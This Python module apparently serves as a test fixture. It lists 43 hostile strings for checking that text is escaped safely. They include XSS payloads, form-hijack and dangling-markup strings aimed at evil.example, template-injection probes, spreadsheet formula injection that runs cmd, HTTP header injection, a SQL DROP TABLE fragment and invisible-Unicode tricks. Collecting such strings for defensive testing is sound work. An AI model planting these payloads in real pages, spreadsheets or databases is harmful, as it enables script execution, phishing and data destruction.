"""Forty-three kinds of text that have broken somebody's pages, feeds, shells or spreadsheets.

Each is a whole text as a city might be made to publish it. Whoever shows them shows them as text.
"""

from __future__ import annotations

from collections.abc import Mapping
from typing import Final

__all__ = ["TEXTS"]

TEXTS: Final[Mapping[str, str]] = {
    # Markup, and what turns into it.
    "script": "<script>alert(1)</script>",
    "image": '"><img src=x onerror=alert(1)>',
    "drawing": "</textarea><svg/onload=alert(1)>",
    "title": "</title></head><body onload=alert(1)>",
    "frame": '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "style": "<style>@import url(https://evil.example/x.css);*{display:none}</style>",
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "form": '</form><form action="https://evil.example/"><button>Sign in</button>',
    "mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "foreign": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "comment": "--!> <!--><img src=x onerror=alert(1)> ]]> <![CDATA[",
    "entities": "&lt;b&gt; &amp;lt; &#x202e; &#60;script&#62;",
    "unfinished": "<img src='https://evil.example/?",
    # Attributes, scripts and templates.
    "quote": "' onmouseover='alert(1)' x='",
    "expression": "'-alert(1)-' \\u003cscript\\u003e",
    "braces": "{{ 7*7 }} {% raw %} {{ self.__init__ }}",
    "percents": "%(n)s %s %n {0} {n!r}",
    "dollars": "${7*7} #{7*7} <%= 7*7 %>",
    # Links that Markdown would make.
    "script link": "[x](javascript:alert(1)) <javascript:alert(1)>",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD4=) [y](//evil.example/y)",
    "picture": "![x](https://evil.example/x.png)",
    "spread link": "[x](java\tscript:alert(1)) [y][1]\n\n[1]: javascript:alert(1)",
    "bare address": "http://evil.example/ data:text/html,<script>1</script>",
    # Directions and what is not seen.
    "turned": "\u202edesrever\u202d",
    "isolated": "\u2066\u2067\u2068 never closed",
    "closed": "\u2069\u2069\u202c closes nothing",
    "marks": "a\u200eb\u200fc\u061cd",
    "nothing": "\u200b\u200b\ufeff\u2060",
    "hyphens": "pass\u00adword \u034f\u180e",
    "tags": "flag \U000e0067\U000e0062\U000e007f ok",
    # Size and shape.
    "long word": "w" * 3000,
    "long text": "A long sentence about the same thing. " * 400,
    "many lines": "line\n" * 60,
    "piled": "Z\u0338\u0321\u033a\u0353" + "\u0e49\u0e49\u0e49" * 60,
    "joined": "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f3\ufe0f\u200d\U0001f308",
    # Formulas.
    "formula": '=HYPERLINK("http://evil.example";"Click")',
    "command": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tabbed": "\t=1+1",
    "wide formula": "＝1＋1",
    # Other programs.
    "headers": "x\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "graph": '""" . <http://evil.example/> <urn:x> "\\u0022 . # \'); DROP TABLE x;--',
}
"""What it plays on → the text."""
